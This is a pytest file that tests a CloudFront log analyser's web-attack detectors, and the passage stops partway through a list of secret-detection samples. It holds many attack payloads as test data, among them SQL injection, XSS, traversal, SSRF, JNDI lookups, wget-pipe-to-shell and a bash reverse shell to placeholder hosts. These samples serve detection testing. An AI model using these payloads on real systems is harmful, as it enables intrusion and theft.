"""Web attacks in requests as CloudFront logs them: decoding, what is found, what only looks like it, and what is said to have become of it.

The shapes are those of public write-ups (OWASP's testing guide, advisories, scanners' defaults) and of honest traffic: searches, filters of
APIs, campaign links, editors, maps. Each request comes from an address of its own, so an answer names the ones that were found.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import pytest
from conftest import line, log

import cfkit
from cfkit import queries
from cfkit.scope import Scope

KINDS = (
    "sql_injection", "cross_site_scripting", "path_traversal", "sensitive_files", "remote_file_inclusion", "command_injection",
    "jndi_injection", "template_injection", "metadata_ssrf", "web_shell",
)  # fmt: skip

# Where the request stands before the first space: q the query of /list, p the path, a the user agent, r the referer.
ATTACKS: dict[str, list[str]] = {
    "sql_injection": [
        "q id=1'%20OR%20'1'='1",
        "q id=1+and+1=2",
        "q id=1%20and%201%3d2",
        "q id=1%20having%206588%3D6588",
        "q id=-1+union+all+select+null,version(),null--+-",
        "q id=1%2527%2520union%2520select%2520user,password%2520from%2520users--",
        "q cat=5/**/UNION/**/SELECT/**/1,2,3",
        "q cat=5+/*!50000union*/+/*!50000select*/+1,2",
        "q user=admin'--",
        "q user=admin'+%23",
        "q id=1;waitfor+delay+'0:0:5'--",
        "q id=(select*from(select(sleep(5)))a)",
        "q id=1+or+pg_sleep(5)--",
        "q id=1'+and+extractvalue(1,concat(0x7e,version()))--",
        "q id=1%u0027%20or%201=1--",
        "q id=1%ef%bc%87 or 1=1",
        "q sort=id;drop+table+orders--",
        "q id=1'+order+by+10--+",
        "q id=1+and+(select+count(*)+from+information_schema.tables)>0",
        "q id=1'||(select+1+from+dual)||'",
        "q id=1+and+case+when+7=7+then+1+else+0+end",
        "q id=1)+and+!sleep(5)",
        "q id=1;begin+dbms_session.sleep(5);end;",
        "q id=1+procedure+analyse(extractvalue(rand(),concat(0x3a,version())),1)",
        "q password[$ne]=x&user=admin",
        "q id=1%0aand%0aexists(select%0a1%0afrom%0ausers)",
        "q id=if(ascii(substr(database(),1,1))>100,1,0)",
        "p /item/1'%20or%20'a'='a",
        "a Mozilla/5.0'+(select*from(select(sleep(20)))a)+'",
        "r https://evil.example/'%20union%20select%201,2,3--%20-",
    ],
    "cross_site_scripting": [
        "q q=<script>alert(1)</script>",
        "q q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E",
        "q q=%253Cscript%253Ealert(document.cookie)%253C/script%253E",
        'q name="><img src=x onerror=alert(1)>',
        "q name=%22%20onmouseover%3D%22alert(1)",
        "q u=javascript:alert(document.domain)",
        "q u=&#x6a;avascript:alert(1)",
        "q u=java%0ascript:alert(1)",
        "q q=<svg/onload=alert`1`>",
        "q q=<details%20open%20ontoggle=confirm(1)>",
        "q q=<iframe%20src=javascript:alert(1)>",
        "q q=\\u003cimg src=1 onerror=alert(1)\\u003e",
        "q q=';alert(1)//",
        "q q=%u003Cscript%u003Ealert(1)%u003C/script%u003E",
        "q q=<script src=//198.51.100.7/x.js></script>",
        "q q=%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
        "p /search/<script>alert(1)</script>",
        "q q=&lt;script&gt;alert(1)&lt;/script&gt;",
        "q q=<math><a xlink:href=javascript:alert(1)>x",
        "a <script>alert('ua')</script>",
    ],
    "path_traversal": [
        "q file=../../../../etc/passwd",
        "q file=..%2f..%2f..%2fetc%2fpasswd",
        "q file=%252e%252e%252f%252e%252e%252fetc%252fshadow",
        "q page=....//....//....//etc/passwd",
        "q file=/etc/passwd",
        "q file=..%5c..%5c..%5cwindows%5cwin.ini",
        "q file=file:///etc/passwd",
        "q file=php://filter/convert.base64-encode/resource=index.php",
        "q file=C:\\boot.ini",
        "p /static/..%c0%af..%c0%af..%c0%afetc/passwd",
        "p /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/passwd",
        "p /assets/..;/..;/WEB-INF/web.xml",
        "p /images/%2e%2e/%2e%2e/%2e%2e/boot.ini",
        "p /static/../../../../proc/self/environ",
        "p /img/..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
        "p /%uff0e%uff0e/%uff0e%uff0e/%uff0e%uff0e/etc/passwd",
        "p /icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
        "q view=../../../../../../../../var/log/apache2/access.log%00",
    ],
    "sensitive_files": [
        "p /.env",
        "p /api/.env.production",
        "p /.git/config",
        "p /.git/HEAD",
        "p /.aws/credentials",
        "p /wp-config.php.bak",
        "p /wp-config.php~",
        "p /backup.sql",
        "p /db_backup.sql.gz",
        "p /www.zip",
        "p /.htpasswd",
        "p /id_rsa",
        "p /server-status",
        "p /phpinfo.php",
        "p /actuator/env",
        "p /actuator/heapdump",
        "p /.svn/entries",
        "p /.DS_Store",
        "p /.vscode/sftp.json",
        "p /%2eenv",
        "p /.well-known/../.env",
        "p /_profiler/phpinfo",
        "p /telescope/requests",
        "p /debug/pprof/heap",
    ],
    "remote_file_inclusion": [
        "q page=http://evil.example/shell.txt?",
        "q file=https%3A%2F%2F198.51.100.9%2Fc99.php",
        "q include=ftp://198.51.100.9/x.txt",
        "q page=php://input",
        "q page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
        "q page=expect://id",
        "q template=http://evil.example/t",
        "q mosConfig_absolute_path=http://evil.example/r57.txt?",
        "q lang=\\\\198.51.100.9\\share\\x.php",
        "q module=%2568ttp://evil.example/id.txt%3f",
    ],
    "command_injection": [
        "q host=127.0.0.1;cat+/etc/passwd",
        "q host=127.0.0.1|id",
        "q host=127.0.0.1%26%26whoami",
        "q host=`id`",
        "q host=$(whoami)",
        "q host=127.0.0.1%0acat%20/etc/passwd",
        "q ip=;wget+http://198.51.100.9/x.sh+-O-|sh",
        "q ip=127.0.0.1;cat${IFS}/etc/passwd",
        "q cmd=cat+/etc/passwd",
        "q x=|+ping+-c+5+198.51.100.9",
        "q x=;sleep+10;",
        "q x=||curl+198.51.100.9/a",
        "q s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system",
        "q -d+allow_url_include=on+-d+auto_prepend_file=php://input",
        "q x=system('id')",
        "q x=bash+-i+>%26+/dev/tcp/198.51.100.9/4444+0>%261",
        "a () { :;}; /bin/bash -c 'id'",
        "r () { ignored; }; /usr/bin/wget http://198.51.100.9/s",
        "q x=powershell+-enc+SQBFAFgA",
        "p /cgi-bin/luci/;stok=/locale;cd+/tmp;wget+http://198.51.100.9/m",
    ],
    "jndi_injection": [
        "a ${jndi:ldap://198.51.100.9/a}",
        "q x=${jndi:rmi://198.51.100.9:1099/o}",
        "q x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D",
        "a ${${lower:j}ndi:${lower:l}dap://198.51.100.9/a}",
        "a ${${::-j}${::-n}${::-d}${::-i}:ldap://x.example/a}",
        "r https://x.example/${${env:NaN:-j}ndi${env:NaN:-:}dns://x.example/a}",
        "p /${jndi:ldap://x.example/a}",
        "q class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "q x=%{(%23a=@java.lang.Runtime@getRuntime().exec('id'))}",
        "q s=${script:javascript:java.lang.Runtime.getRuntime()}",
        "q data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRg",
        "q x=${${upper:j}ndi:ldap://${sys:user.name}.x.example/}",
    ],
    "template_injection": [
        "q name={{7*7}}",
        "q name=%7B%7B7*%277%27%7D%7D",
        "q name=${7*7}",
        "q name=#{7*7}",
        "q name=<%=+7*7+%>",
        "q name={{config.items()}}",
        "q name={{''.__class__.__mro__[1].__subclasses__()}}",
        "q name={{request.application.__globals__}}",
        "q name={{_self.env.registerUndefinedFilterCallback('exec')}}",
        'q name=<#assign+ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "q name=${{<%[%'\"}}%\\",
        "q name=${T(java.lang.Runtime).getRuntime().exec('id')}",
        "q name=%257B%257B7*7%257D%257D",
        "q name=*{7*7}",
    ],
    "metadata_ssrf": [
        "q url=http://169.254.169.254/latest/meta-data/",
        "q url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
        "q url=http://2852039166/latest/meta-data/",
        "q url=http://0xa9fea9fe/",
        "q url=http://0xa9.0xfe.0xa9.0xfe/",
        "q url=http://0251.0376.0251.0376/",
        "q url=http://[::ffff:a9fe:a9fe]/",
        "q url=http://[fd00:ec2::254]/latest/",
        "q url=http://metadata.google.internal/computeMetadata/v1/",
        "q url=http://169.254.170.2/v2/credentials/",
        "q image=http://100.100.100.200/latest/meta-data/",
        "q u=http://169.254.169.254.nip.io/x",
        "q url=gopher://127.0.0.1:6379/_INFO",
        "p /proxy/http://169.254.169.254/latest/user-data",
        "p /latest/meta-data/iam/security-credentials/",
    ],
    "web_shell": [
        "p /uploads/2026/03/x1.php",
        "p /wp-content/uploads/shell.php?cmd=id",
        "p /images/logo.jpg.php",
        "p /c99.php",
        "p /avatars/cmd.jsp?0=ls+-la",
        "p /tmp/a.aspx?exec=whoami",
        "p /.well-known/pki-validation/wso.php",
        "p /files/up.phtml?c=cat%20/etc/hosts",
    ],
}

HONEST = [
    # what people type
    "q q=select+a+union+jack",
    "q q=union+select+committee",
    "q q=o'reilly",
    "q q=rock+'n'+roll",
    "q q=drop+leaf+table",
    "q q=how+to+delete+from+a+list+where+it+is",
    "q q=salt+%26+pepper",
    "q q=tea;+cake+|+biscuits",
    "q q=4+or+14+cups+=+?",
    "q q=mug+<3",
    "q q=12%22+pan",
    "q q=script+fonts",
    "q q=alert+clock",
    "q q=cat+bowl",
    "q q=cat",
    "q q=c%2B%2B+vs+c%23",
    "q q=1+and+2",
    "q q=either+1+or+2+people",
    "q q=order+by+friday",
    "q q=group+by+color",
    "q q=sleep+mask",
    "q q='quoted+words'+and+more",
    "q q=%22red+mug%22+or+%22blue+mug%22",
    "q q=etc.+passt+das",
    "q q=it's+--+really+--+nice",
    "q q=price+>+5+and+price+<+10",
    "q q=pots+%7C+pans",
    "q q=what+is+1+=+1",
    "q q=a*b+(c)",
    "q q=r%26d+department+%26+id+cards",
    "q q=$(5)+off",
    "q q=50%+off",
    "q q=ping+pong+table",
    "q q=id+holder;+id+badge",
    "q q=jndi+tutorial",
    "q q=log4j+jndi+lookup+explained",
    "q q=.env+file+example",
    "q q=more+|+less",
    "q q=http+method+trace",
    "q q=https://shop.example/p/1",
    "q q=D'Angelo+%26+Sons",
    "q q=don't;+won't",
    "q q=5'+10\"",
    # filters of APIs, OData, GraphQL, Lucene, JQL, maps
    "q $filter=price+gt+10+and+name+eq+'tea'",
    "q $filter=(name+eq+'a'+or+name+eq+'b')+and+contains(tags,'x')",
    "q $select=id,name&$orderby=name+desc",
    "q filter=status:open+AND+(type:bug+OR+type:task)",
    'q jql=project+%3D+"ABC"+AND+status+%3D+"Open"+ORDER+BY+created',
    "q where=1%3D1&outFields=*&f=json",
    "q where=STATE%3D'CA'+AND+POP>100",
    "q query={user(id:1){name,email}}",
    'q query=query+Q($id:ID!){user(id:$id){name}}&variables={"id":"1"}',
    "q filters[price][$gt]=5&filters[name][$contains]=tea",
    "q filter[where][price][gt]=5",
    'q filter={"where":{"price":{"gt":5}},"order":"price+DESC"}',
    "q ids=1,2,3&sort=-price",
    "q fields=id,name(first,last)",
    "q sort=price|asc;name|desc",
    "q range=1..5",
    "q page[number]=2&page[size]=10",
    "q sql=x",
    "q bbox=(1,2),(3,4)",
    "q date=2026-03-01--2026-03-05",
    "q expr=$.store.book[?(@.price<10)]",
    # campaigns, redirects, tags
    "q utm_source=newsletter&utm_content={{first_name}}",
    "q name={{customer.name}}",
    "q greeting=Hallo%20${vorname}",
    "q utm_term=[[segment]]",
    "q name=*|FNAME|*",
    "q utm_content=%3Cbanner%3E",
    "q date={{2026-03-05}}",
    "q kw={keyword}&m={matchtype}",
    "q gclid=EAIaIQobChMI--8_abc",
    "q redirect=https://www.example.com/checkout?step=2",
    "q returnTo=%2Faccount%2Forders",
    "q next=https%3A%2F%2Fwww.example.com%2Fa%3Fb%3Dc",
    "q url=https://www.example.com/p/1&to=social",
    "q url=https://video.example.org/watch?v=abc",
    "q utm_source=https://partner.example.org/page.html",
    "q ref=https://partner.example.org/",
    "q u=https%3A%2F%2Fblog.example.org%2Fpost%2F2026",
    "q redirect_uri=http://localhost:3000/callback&state=xyz",
    "q onload=onloadCallback&render=explicit",
    "q callback=jQuery123_456&_=1",
    "q image=https://img.example.org/a.jpg&w=200",
    "q src=//cdn.example.org/a.js",
    "q feed=https://blog.example.org/rss.xml",
    # encodings that are nobody's disguise
    "q data=eyJhIjoxfQ%3D%3D",
    "q token=a%252Fb%252Bc",
    "q state=%257B%2522a%2522%253A1%257D",
    "q q=caf%C3%A9",
    "q q=%E3%83%86%E3%83%BC%E3%83%96%E3%83%AB",
    "q q=gr%FC%DFe",
    "q family=Inter:wght@400;700&display=swap",
    "q css=body{color:red}",
    "q v=0x1f",
    "q color=%23fff",
    "q id=2852039166",
    "q ts=169254169254",
    "q hash=a9fea9fe00",
    "q t=00:00:05",
    "q lat=48.1&lon=11.5&r=5;10",
    "q cmd=view&item=220",
    "q action=exec&id=5",
    "q p=1'",
    "q code=print(hello)",
    "q msg=20%25%20off;%20today%20only",
    "q ver=1..2",
    # paths
    "p /.well-known/security.txt",
    "p /.well-known/acme-challenge/a-b_c",
    "p /.well-known/openid-configuration",
    "p /robots.txt",
    "p /a/../b/style.css",
    "p /wp-login.php",
    "p /index.php",
    "p /docs/etc/hosts-file.html",
    "p /p/o'brien-mug",
    "p /npm/pkg@1.2.3/dist/file.min.js",
    "p /javascript:void(0)",
    "p /wiki/Union_(set_theory)",
    "p /blog/sql-injection-explained",
    "p /api/users(1)/orders",
    "p /docs/java/lang/Runtime.html",
    "p /environment",
    "p /files/report.pdf",
    "p /downloads/catalogue.zip",
    "p /assets/app.js.map",
    "p /manifest.json",
    "p /config.json",
    "p /package.json",
    "p /blog/2026/03/git-config",
    "p /keys/public.asc",
    "p /a/b;jsessionid=1A2B",
    "p /backup-strategies",
    "p /css/../images/logo.png",
    "p /team/credentials-policy",
    "p /image%20(1).jpg",
    # user agents and referers
    "a Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "a curl/8.5.0",
    "a Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "a Dalvik/2.1.0 (Linux; U; Android 13; SM-G991B Build/TP1A)",
    "a Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) [FBAN/FBIOS;FBAV/450.0;FBID/phone]",
    "a okhttp/4.9.3",
    "a Union/1.0 (select; cat; id)",
    "r https://www.google.com/search?q=sql+injection+union+select+1,2,3--",
    "r https://www.bing.com/search?q=<script>alert(1)</script>",
    "r https://www.example.com/search?q=<script>alert(1)</script>",
    "r https://mail.example.org/u/0/?ui=2&view=(x)",
    "r android-app://com.example.app/",
]


def logged(text: str) -> str:
    """As CloudFront writes it: the percent sign too is encoded, so that a viewer's %27 reads %2527."""
    return "".join(c if 32 < ord(c) < 127 and c not in "<>\"#%{}|\\^~[]`'" else "".join(f"%{b:02X}" for b in c.encode()) for c in text)


def request(what: str, client: str, status: str = "404", **more: str) -> str:
    where, _, text = what.partition(" ")
    fields = {"cs_uri_stem": "/list", "cs_uri_query": "-", "cs_User_Agent": "Mozilla/5.0", "cs_Referer": "-"}
    if where == "p":
        path, _, query = text.partition("?")
        fields |= {"cs_uri_stem": logged(path), "cs_uri_query": logged(query) or "-"}
    else:
        fields[{"q": "cs_uri_query", "a": "cs_User_Agent", "r": "cs_Referer"}[where]] = logged(text)
    return line(c_ip=client, sc_status=status, x_edge_response_result_type="Error" if status >= "4" else "Miss", **(fields | more))


def address(number: int) -> str:
    return f"10.{number // 250}.{number % 250}.1"  # each in a /24 of its own


def ask(con: Any, kind: str, **params: Any) -> list[dict[str, Any]]:
    answer = queries.run(con, queries.find(f"security/{kind}"), params, Scope(), {})
    return [dict(zip(answer.columns, record, strict=True)) for record in answer.records]


def case_of(folder: Path, lines: list[str], waf: list[dict[str, Any]] | None = None) -> Any:
    (folder / "logs").mkdir(parents=True)
    (folder / "logs" / "E2EXAMPLE1.2026-03-04-14.0a1b2c3d").write_text(log(*lines), encoding="utf-8")
    if waf:
        (folder / "logs" / "waf.log").write_text("".join(json.dumps(record) + "\n" for record in waf), encoding="utf-8")
    (folder / "case.duckdb").unlink(missing_ok=True)
    with cfkit.Case(folder / "case.duckdb") as case:
        case.load(folder / "logs", progress=False)
    return duckdb.connect(folder / "case.duckdb", read_only=True)


TRIED = [(kind, text) for kind, texts in ATTACKS.items() for text in texts]


@pytest.fixture(scope="module")
def found(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, set[str]]]:
    """Per kind the addresses it names; the attacks count from 0, what is honest from 2000. Shells answer, nothing else does."""
    lines = [request(text, address(n), "200" if kind == "web_shell" else "404") for n, (kind, text) in enumerate(TRIED)]
    lines += [request(text, address(2000 + n), "200") for n, text in enumerate(HONEST)]
    with case_of(tmp_path_factory.mktemp("shapes"), lines) as con:
        yield {kind: {row["entity"] for row in ask(con, kind)} for kind in KINDS}


@pytest.mark.parametrize("number", range(len(TRIED)), ids=[f"{kind}: {text}"[:90] for kind, text in TRIED])
def test_an_attack_is_found_in_every_public_shape(number: int, found: dict[str, set[str]]) -> None:
    kind, text = TRIED[number]
    assert address(number) in found[kind], f"not found as {kind}: {text}"


@pytest.mark.parametrize("number", range(len(HONEST)), ids=[text[:80] for text in HONEST])
def test_what_only_looks_like_an_attack_stays_quiet(number: int, found: dict[str, set[str]]) -> None:
    kinds = [kind for kind in KINDS if address(2000 + number) in found[kind]]
    assert not kinds, f"{HONEST[number]} is said to be {', '.join(kinds)}"


def test_there_are_twice_as_many_near_misses_as_any_kind_has_attacks() -> None:
    assert len(HONEST) >= 2 * max(len(texts) for texts in ATTACKS.values())


# --- decoding ---


DECODED = [
    ("q a=%3Cb%3E", "a=<b>"),
    ("q a=%253Cb%253E", "a=<b>"),
    ("q a=%25253Cb%25253E", "a=<b>"),
    ("q a=%2525252527x", "a='x"),
    ("q a=%u003cb%u003e", "a=<b>"),
    ("q a=%uff1cb%uff1e", "a=<b>"),
    ("q a=%c0%bcb%c0%be", "a=<b>"),
    ("q a=%e0%80%bcb%f0%80%80%be", "a=<b>"),
    ("q a=%ef%bc%9cb%EF%BC%9E", "a=<b>"),
    ("q a=&lt;b&gt;", "a=<b>"),
    ("q a=&#60;b&#x3e;", "a=<b>"),
    ("q a=&#0000060b&#x0003E;", "a=<b>"),
    ("q a=%26lt%3Bb%26gt%3B", "a=<b>"),
    ("q a=\\x3cb\\u003e", "a=<b>"),
    ("q a=\\u{3c}b\\u{00003e}", "a=<b>"),
    ("q a=<B>+C%20D", "a=<b> c d"),
    ("q a=%%33Cb%%33E", "a=<b>"),
    ("q a=<b%00>", "a=<b>"),
    ("q a=<%2500b>", "a=<b>"),
    ("q a=<b>%0d%0a%09c", "a=<b> c"),
    ("p /..%c1%9c..%c0%af..%c0%2fx", "/..\\../../x"),
    ("p /%%32%65%%32%65/x", "/../x"),
    ("q a=<%E4%F6>", "a=<%e4%f6>"),  # bytes that are no UTF-8 hide nothing, and break nothing
    ("q a=<%zz%>", "a=<%zz%>"),
    ("q a=<caf%C3%A9>", "a=<café>"),
]


def test_values_are_decoded_until_nothing_changes(tmp_path: Path) -> None:
    with case_of(tmp_path, [request(sent, "192.0.2.1") for sent, _ in DECODED]) as con:
        ask(con, "sql_injection")
        texts = dict(con.execute("select value, text from decoded").fetchall())
    assert [(sent, texts.get(sent[2:])) for sent, _ in DECODED] == DECODED


# --- attempt or success ---

BROWSER = "Mozilla/5.0 (X11; Linux x86_64) Firefox/123.0"


def search(client: str, query: str, size: int = 8000, status: str = "200", **more: str) -> str:
    fields = {"cs_uri_stem": "/search", "cs_uri_query": logged(query), "sc_bytes": str(size), "x_edge_response_result_type": "Miss"}
    return line(c_ip=client, sc_status=status, **(fields | {"cs_User_Agent": BROWSER.replace(" ", "%20"), "cs_Referer": "-"} | more))


def visitors(count: int = 30) -> list[str]:
    return [search(f"192.0.2.{n}", f"q=tea{n}", 7900 + 10 * n) for n in range(1, count + 1)]


def waf_record(request_id: str, action: str, **more: Any) -> dict[str, Any]:
    return {
        "timestamp": 1772633106000,
        "formatVersion": 1,
        "webaclId": "arn:aws:wafv2:us-east-1:111122223333:global/webacl/site/1",
        "action": action,
        "terminatingRuleId": "sqli" if action == "BLOCK" else "Default_Action",
        "terminatingRuleType": "REGULAR",
        "httpSourceName": "CF",
        "httpSourceId": "E2EXAMPLE1",
        "ruleGroupList": [],
        "nonTerminatingMatchingRules": [],
        "httpRequest": {
            "clientIp": "203.0.113.9",
            "country": "DE",
            "headers": [],
            "uri": "/search",
            "args": "",
            "httpVersion": "HTTP/2.0",
            "httpMethod": "GET",
            "requestId": request_id,
        },
    } | more


def test_an_answer_many_times_the_usual_size_is_a_likely_success_and_the_usual_size_is_not(tmp_path: Path) -> None:
    lines = [
        *visitors(),
        search("203.0.113.9", "q=x' union select 1,email from users--", 900_000),
        search("198.51.100.9", "q=x' union select 1,email from users--", 8_100),
    ]
    with case_of(tmp_path, lines) as con:
        loud, plain = ask(con, "sql_injection")
    assert (loud["entity"], loud["likely_success"], loud["outcome"]) == ("203.0.113.9", 1, "answered unusually: likely success")
    assert "times the usual size" in loud["why"]
    assert loud["usual_bytes"] == 8055
    assert (plain["entity"], plain["likely_success"], plain["answered_2xx"], plain["outcome"]) == (
        "198.51.100.9",
        0,
        1,
        "answered as usual",
    )
    assert plain["why"] is None


def test_an_answer_as_late_as_the_payload_asked_is_a_likely_success(tmp_path: Path) -> None:
    lines = [
        *visitors(),
        search("203.0.113.9", "q=1' and sleep(5)--", time_taken="5.104"),
        search("198.51.100.9", "q=1' and sleep(5)--", time_taken="0.104"),
    ]
    with case_of(tmp_path, lines) as con:
        rows = {row["entity"]: row["likely_success"] for row in ask(con, "sql_injection")}
    assert rows == {"203.0.113.9": 1, "198.51.100.9": 0}


def test_the_web_acl_says_blocked_or_counted_and_two_records_of_a_request_are_one(tmp_path: Path) -> None:
    counted = [{"ruleId": "sqli-count", "action": "COUNT"}]
    lines = [
        search("203.0.113.9", "q=1' or '1'='1", 900, "403", x_edge_request_id="blocked==", x_edge_response_result_type="Error"),
        search("203.0.113.9", "q=1' or '2'='2", x_edge_request_id="counted=="),
        search("203.0.113.9", "q=1' or '3'='3", 900, "403", x_edge_request_id="unseen==", x_edge_response_result_type="Error"),
    ]
    waf = [
        waf_record("blocked==", "BLOCK"),
        waf_record("blocked==", "BLOCK", timestamp=1772633106001),
        waf_record("counted==", "ALLOW", nonTerminatingMatchingRules=counted),
    ]
    with case_of(tmp_path, lines, waf) as con:
        (row,) = ask(con, "sql_injection")
    said = {key: row[key] for key in ("requests", "blocked_by_waf", "counted_by_waf", "refused", "answered_2xx", "reached_origin")}
    assert said == {"requests": 3, "blocked_by_waf": 1, "counted_by_waf": 1, "refused": 1, "answered_2xx": 1, "reached_origin": 1}


def test_a_file_that_only_the_attacker_gets_is_a_likely_success_and_a_page_for_everything_is_not(tmp_path: Path) -> None:
    def get(client: str, path: str, size: int) -> str:
        return search(client, "", size, cs_uri_stem=path, cs_uri_query="-")

    lines = [*visitors(), get("203.0.113.9", "/.git/HEAD", 412)]
    lines += [get("198.51.100.9", path, 5_120) for path in ("/.env", "/.git/config", "/backup.sql", "/.aws/credentials", "/id_rsa")]
    with case_of(tmp_path, lines) as con:
        rows = {row["entity"]: (row["likely_success"], row["answered_2xx"]) for row in ask(con, "sensitive_files")}
    assert rows == {"203.0.113.9": (1, 1), "198.51.100.9": (0, 5)}


def test_a_shell_that_does_not_answer_is_none_and_a_program_with_many_visitors_is_none(tmp_path: Path) -> None:
    def get(client: str, path: str, query: str, status: str = "200") -> str:
        return search(client, query, status=status, cs_uri_stem=path)

    lines = [get("203.0.113.9", "/avatars/cmd.jsp", "0=id"), get("198.51.100.9", "/avatars/cmd.jsp", "0=id", "404")]
    lines += [get(f"192.0.2.{n}", "/uploads/resize.php", f"w={n}") for n in range(20)]
    lines += [get("192.0.2.99", "/shop/index.php", "cmd=view&item=3"), get("192.0.2.98", "/search.php", "q=cat")]
    with case_of(tmp_path, lines) as con:
        assert [row["entity"] for row in ask(con, "web_shell")] == ["203.0.113.9"]


# --- episodes ---


def test_a_pause_longer_than_the_gap_ends_a_finding(tmp_path: Path) -> None:
    at = ("10:00:00", "10:40:00", "11:20:00", "13:00:00")
    with case_of(tmp_path, [search("203.0.113.9", f"q=1' or '{n}'='{n}", time=time) for n, time in enumerate(at)]) as con:
        assert [row["requests"] for row in ask(con, "sql_injection")] == [3, 1]
        assert [row["requests"] for row in ask(con, "sql_injection", gap="30 minutes")] == [1, 1, 1, 1]
        assert [row["requests"] for row in ask(con, "sql_injection", gap="1 day")] == [4]


def test_neighbours_who_do_the_same_are_counted_and_one_finding_where_networks_are_asked_for(tmp_path: Path) -> None:
    clients = ["203.0.113.9", "203.0.113.77", "203.0.113.200", "198.51.100.9", "2001:db8:1:2::5", "2001:db8:1:2:a::9", "2001:db8:9::1"]
    with case_of(tmp_path, [search(client, "q=1' or '1'='1") for client in clients]) as con:
        assert {row["entity"]: row["siblings"] for row in ask(con, "sql_injection")} == dict(
            zip(clients, (2, 2, 2, 0, 1, 1, 0), strict=True)
        )
        networks = {row["entity"]: row["clients"] for row in ask(con, "sql_injection", who="network")}
    assert networks == {"203.0.113.0/24": 3, "198.51.100.0/24": 1, "2001:db8:1:2::/64": 2, "2001:db8:9:0::/64": 1}


def test_five_doubtful_payloads_of_one_client_are_a_finding_and_four_are_not(tmp_path: Path) -> None:
    doubtful = [f"q={n} order by {n}" for n in range(1, 6)]
    lines = [search("203.0.113.9", text) for text in doubtful] + [search("198.51.100.9", text) for text in doubtful[:4]]
    with case_of(tmp_path, lines) as con:
        assert [row["entity"] for row in ask(con, "sql_injection")] == ["203.0.113.9"]


def test_what_the_client_did_next_is_told(tmp_path: Path) -> None:
    lines = [
        search("203.0.113.9", "q=1' or '1'='1", time="10:00:00"),
        *(search("203.0.113.9", "-", 70_000, time=f"10:0{n}:00", cs_uri_stem="/admin/export") for n in (1, 2)),
        search("203.0.113.9", "-", 900, "404", time="10:03:00", cs_uri_stem="/nothing"),
        search("203.0.113.9", "-", time="15:00:00", cs_uri_stem="/hours-later"),
    ]
    with case_of(tmp_path, lines) as con:
        (row,) = ask(con, "sql_injection")
    assert (row["then_requests"], row["then_answered"], row["then_path"]) == (3, 2, "/admin/export")


# --- what is kept for the next question ---


def test_another_scope_is_looked_at_anew_and_the_same_one_only_once(tmp_path: Path) -> None:
    lines = [search("203.0.113.9", "q=1' or '1'='1", time="10:00:00"), search("198.51.100.9", "q=1' or '1'='1", time="12:00:00")]
    case_of(tmp_path, lines).close()
    with cfkit.Case(tmp_path / "case.duckdb") as case:
        assert len(case.ask("security/sql_injection").records) == 2
        case.scope(start="2026-03-04T11:00", end="2026-03-04T13:00")
        assert [row[1] for row in case.ask("security/sql_injection").records] == ["198.51.100.9"]
        case.scope()
        assert len(case.ask("security/sql_injection").records) == 2
        more = log(search("192.0.2.9", "q=1' or '1'='1", time="14:00:00"))
        (tmp_path / "logs" / "E2EXAMPLE1.2026-03-04-15.0a1b2c3d").write_text(more, encoding="utf-8")
        case.load(tmp_path / "logs", progress=False)
        assert len(case.ask("security/sql_injection").records) == 3


def test_a_size_is_compared_with_honest_answers_outside_the_scope_too(tmp_path: Path) -> None:
    lines = [*visitors(), search("203.0.113.9", "q=x' union select 1,email from users--", 900_000, time="20:00:00")]
    case_of(tmp_path, lines).close()
    with cfkit.Case(tmp_path / "case.duckdb") as case:
        case.scope(start="2026-03-04T19:00", end="2026-03-04T21:00")
        assert case.ask("security/sql_injection").rows.likely_success.tolist() == [1]


def test_without_requests_it_is_no_answer(tmp_path: Path) -> None:
    case_of(tmp_path, [search("203.0.113.9", "q=1' or '1'='1")]).close()
    with cfkit.Case(tmp_path / "case.duckdb") as case:
        case.scope(start="2026-03-01", end="2026-03-02")
        assert case.ask("security/sql_injection").no_data
        assert case.ask("security/exposure").no_data


# --- secrets ---

JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
SECRETS = {
    f"q access_token={JWT}": "JSON web token",
    "q AWSAccessKeyId=AKIAIOSFODNN7EXAMPLE&x=1": "AWS access key",
    "q user=a&password=correct-horse": "password or secret",
    "q email=jane.doe%40example.com": "mail address",
    "q card=4111111111111111": "card number",
    "q n=4111+1111+1111+1111": "card number",
    "q api_key=9f8e7d6c5b4a39281706f5e4d3c2b1a0": "key of a service",
    "q k=ghp_0123456789abcdefghijABCDEFGHIJ012345": "key of a service",
    "q sessionid=0a1b2c3d4e5f60718293a4b5": "session",
    "q X-Amz-Signature=0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef": "signed URL",
    f"p /reset/{JWT}": "JSON web token",
    "r https://www.example.com/reset?reset_token=4f9a8b7c6d5e4f3a2b1c0d9e": "token",
    "q u=https://bob:hunter22@example.com/": "name and password in a URL",
}
NO_SECRETS = [
    "q q=password+reset",
    "q token=1",
    "q sort=-price&page=2",
    "q card=4111111111111112",
    "q id=4111111111111111",
    "q n=1234+5678+9012+3456",
    "p /img/logo@2x.png",
    "p /npm/vue@3.4.1/dist/vue.min.js",
    "q session=none",
    "q code=summer",
    "q pass=true",
    "q q=what+is+a+jwt+eyJ",
    "q auth=required-for-checkout",
    "q author=someone-with-a-long-name-0",
    "q key=value",
    "q passengers=2",
